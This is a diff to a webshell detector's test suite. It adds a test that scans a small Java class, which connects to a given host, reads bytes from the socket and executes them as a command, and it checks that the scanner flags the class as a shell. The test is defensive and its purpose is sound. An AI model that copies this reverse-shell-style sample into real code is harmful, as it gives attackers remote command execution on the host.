@@ -322,3 +322,14 @@ def test_payload_classes():
     jsp.scan(b'public class L { void run(String c) throws Exception { Runtime.getRuntime().exec(c); } }\n', "jsp",
              common.Budget(common.Limits()), hits)
     assert not webshell.is_shell(hits)
+
+
+def test_reverse_shell_class_reads_commands_from_its_socket():
+    from agent.imagegate.webshell import common, jsp
+    src = (b'public class R { public static void go(String h, int p) throws Exception {\n'
+           b' java.net.Socket s = new java.net.Socket(h, p); java.io.InputStream in = s.getInputStream();\n'
+           b' byte[] b = new byte[1024]; int n = in.read(b);\n'
+           b' Runtime.getRuntime().exec(new String(b, 0, n)); } }\n')
+    hits = []
+    jsp.scan(src, "jsp", common.Budget(common.Limits()), hits)
+    assert webshell.is_shell(hits) and hits[0].rule == "jsp.request-to-exec"
